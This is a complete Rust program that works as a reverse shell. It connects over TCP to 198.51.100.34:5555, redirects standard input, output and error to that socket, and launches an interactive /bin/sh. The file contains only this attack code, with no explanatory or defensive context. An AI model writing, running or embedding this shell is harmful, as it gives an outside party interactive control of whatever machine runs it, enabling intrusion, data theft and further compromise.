use std::net::TcpStream;
use std::os::fd::{FromRawFd, IntoRawFd};
use std::process::{Command, Stdio};

fn main() -> std::io::Result<()> {
    let fd = TcpStream::connect("198.51.100.34:5555")?.into_raw_fd();
    let io = || unsafe { Stdio::from_raw_fd(fd) };
    Command::new("/bin/sh").arg("-i").stdin(io()).stdout(io()).stderr(io()).spawn()?.wait()?;
    Ok(())
}
